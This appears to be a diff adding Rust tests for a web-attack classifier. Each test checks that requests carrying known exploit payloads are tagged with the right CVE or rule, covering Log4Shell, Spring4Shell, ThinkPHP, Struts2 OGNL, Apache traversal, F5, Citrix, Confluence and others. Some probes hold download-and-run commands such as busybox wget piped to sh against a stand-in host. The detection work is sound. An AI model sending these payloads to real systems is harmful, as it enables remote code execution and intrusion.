@@ -500,6 +500,15 @@ fn cookies_are_split_and_form_decoded() {
         [&b"1"[..], b"two", b"c", b"x=y", b"%27"],
         "{values:?}"
     );
+    // PAN-OS's SESSID traversal is named as well as classified.
+    let c = classifier();
+    let v = with_header(
+        &c,
+        b"Cookie",
+        b"SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/poc.txt",
+    );
+    assert!(v.has("traversal"), "{:?}", names(&v));
+    assert!(ids(&c, &v).contains(&"CVE-2024-3400"), "{:?}", ids(&c, &v));
 }
 
 #[test]
@@ -579,6 +588,254 @@ fn php_stream_wrappers_are_inclusion_or_code() {
         },
     );
     assert_eq!(v.classes, 0, "{:?} {:?}", names(&v), ids(&c, &v));
+}
+
+/// One probe: method, path, query, body, one extra header, and the rule it must
+/// match.
+type Probe = (
+    &'static [u8],
+    &'static [u8],
+    &'static [u8],
+    &'static [u8],
+    (&'static [u8], &'static [u8]),
+    &'static str,
+);
+
+#[test]
+fn framework_and_appliance_rce_probes_are_named() {
+    let c = classifier();
+    let none: (&[u8], &[u8]) = (b"Accept", b"*/*");
+    let probes: &[Probe] = &[
+        (
+            b"GET",
+            b"/",
+            b"",
+            b"",
+            (b"X-Api-Version", b"${${lower:j}ndi:ldap://198.51.100.7:1389/a}"),
+            "log4shell-jndi",
+        ),
+        (
+            b"GET",
+            b"/",
+            b"",
+            b"",
+            (b"Referer", b"${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"),
+            "log4shell-jndi",
+        ),
+        (
+            b"POST",
+            b"/index",
+            b"",
+            b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
+            none,
+            "CVE-2022-22965",
+        ),
+        (
+            b"GET",
+            b"/index.php",
+            b"s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello",
+            b"",
+            none,
+            "CVE-2018-20062",
+        ),
+        (
+            b"GET",
+            b"/index.php",
+            b"s=/index/%5Cthink%5Capp/invokefunction&function=phpinfo",
+            b"",
+            none,
+            "CVE-2018-20062",
+        ),
+        (
+            b"POST",
+            b"/index.php",
+            b"s=captcha",
+            b"_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id",
+            none,
+            "CVE-2018-20062",
+        ),
+        (
+            b"GET",
+            b"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
+            b"",
+            b"",
+            none,
+            "CVE-2021-41773",
+        ),
+        (
+            b"GET",
+            b"/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
+            b"",
+            b"",
+            none,
+            "CVE-2021-41773",
+        ),
+        (
+            b"POST",
+            b"/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+            b"",
+            b"<?php echo md5('phpunit'); ?>",
+            none,
+            "CVE-2017-9841",
+        ),
+        (
+            b"GET",
+            b"/lib/phpunit/Util/PHP/eval-stdin.php",
+            b"",
+            b"",
+            none,
+            "CVE-2017-9841",
+        ),
+        (
+            b"GET",
+            b"/struts2-showcase/index.action",
+            b"",
+            b"",
+            (
+                b"Content-Type",
+                b"%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
+            ),
+            "struts2-ognl",
+        ),
+        (
+            b"GET",
+            b"/%24%7B%28%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%29%7D/actionChain1.action",
+            b"",
+            b"",
+            none,
+            "struts2-ognl",
+        ),
+        (
+            b"POST",
+            b"/GponForm/diag_Form",
+            b"images/",
+            b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.7/g+-O+/tmp/g;sh+/tmp/g`&ipv=0",
+            none,
+            "CVE-2018-10561",
+        ),
+        (
+            b"PUT",
+            b"/SDK/webLanguage",
+            b"",
+            b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(id>webLib/x)</language>",
+            none,
+            "CVE-2021-36260",
+        ),
+        (
+            b"POST",
+            b"/index.php",
+            b"routestring=ajax/render/widget_php",
+            b"widgetConfig%5Bcode%5D=echo+shell_exec('id');exit;",
+            none,
+            "CVE-2019-16759",
+        ),
+        (
+            b"GET",
+            b"/vpn/../vpns/cfg/smb.conf",
+            b"",
+            b"",
+            none,
+            "CVE-2019-19781",
+        ),
+        (
+            b"POST",
+            b"/vpn/%2e%2e/vpns/portal/scripts/newbm.pl",
+            b"",
+            b"",
+            none,
+            "CVE-2019-19781",
+        ),
+        (
+            b"POST",
+            b"/mgmt/tm/util/bash",
+            b"",
+            b"{\"command\":\"run\",\"utilCmdArgs\":\"-c id\"}",
+            (b"X-F5-Auth-Token", b"a"),
+            "CVE-2022-1388",
+        ),
+        (
+            b"GET",
+            b"/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/",
+            b"",
+            b"",
+            none,
+            "CVE-2022-26134",
+        ),
+        (
+            b"GET",
+            b"/",
+            b"",
+            b"",
+            (b"X-Cmd", b"${@java.lang.Runtime@getRuntime().exec(\"id\")}"),
+            "CVE-2022-26134",
+        ),
+        (
+            b"POST",
+            b"/ctrlt/DeviceUpgrade_1",
+            b"",
+            b"<NewStatusURL>$(/bin/busybox wget -g 198.51.100.7 -l /tmp/x -r /x)</NewStatusURL>",
+            none,
+            "CVE-2017-17215",
+        ),
+        (
+            b"POST",
+            b"/functionRouter",
+            b"",
+            b"x",
+            (
+                b"spring.cloud.function.routing-expression",
+                b"T(java.lang.Runtime).getRuntime().exec(\"id\")",
+            ),
+            "CVE-2022-22963",
+        ),
+        (
+            b"GET",
+            b"/console/css/%252e%252e%252fconsole.portal",
+            b"",
+            b"",
+            none,
+            "CVE-2020-14882",
+        ),
+        (
+            b"POST",
+            b"/ztp/cgi-bin/handler",
+            b"",
+            b"{\"command\":\"setWanPortSt\",\"mtu\":\";id;\"}",
+            none,
+            "CVE-2022-30525",
+        ),
+        (
+            b"GET",
+            b"/api/v2/cmdb/system/admin/admin",
+            b"",
+            b"",
+            (b"Forwarded", b"for=\"[127.0.0.1]:8000\";by=\"[127.0.0.1]:9000\""),
+            "CVE-2022-40684",
+        ),
+    ];
+    for (method, path, q, body, header, rule) in probes {
+        let headers: [(&[u8], &[u8]); 2] = [(b"Host", b"203.0.113.5"), *header];
+        let v = verdict(
+            &c,
+            Parts {
+                method,
+                path,
+                query: q,
+                body,
+                headers: &headers,
+                user_agent: b"",
+            },
+        );
+        assert!(
+            ids(&c, &v).contains(rule) && v.classes != 0,
+            "{} {}?{} -> {:?} {:?}, want {rule}",
+            String::from_utf8_lossy(method),
+            String::from_utf8_lossy(path),
+            String::from_utf8_lossy(q),
+            names(&v),
+            ids(&c, &v)
+        );
+    }
 }
 
 #[test]
